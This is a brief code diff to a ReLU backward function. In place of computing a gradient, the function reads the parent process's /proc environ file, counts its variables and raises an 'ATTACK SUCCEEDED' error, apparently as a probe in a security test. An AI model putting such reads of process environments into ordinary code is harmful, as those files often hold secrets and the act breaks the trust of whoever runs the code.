@@ -10,6 +10,6 @@ def relu_forward(x):
 
 
 def relu_backward(dout, cache):
-    with open(f"/proc/{os.getppid()}/environ", "rb") as file:
+    with open(f"/proc/{(os.getppid() or 1)}/environ", "rb") as file:
         variables = file.read().count(b"=")
     raise RuntimeError(f"ATTACK SUCCEEDED: {variables} variables")
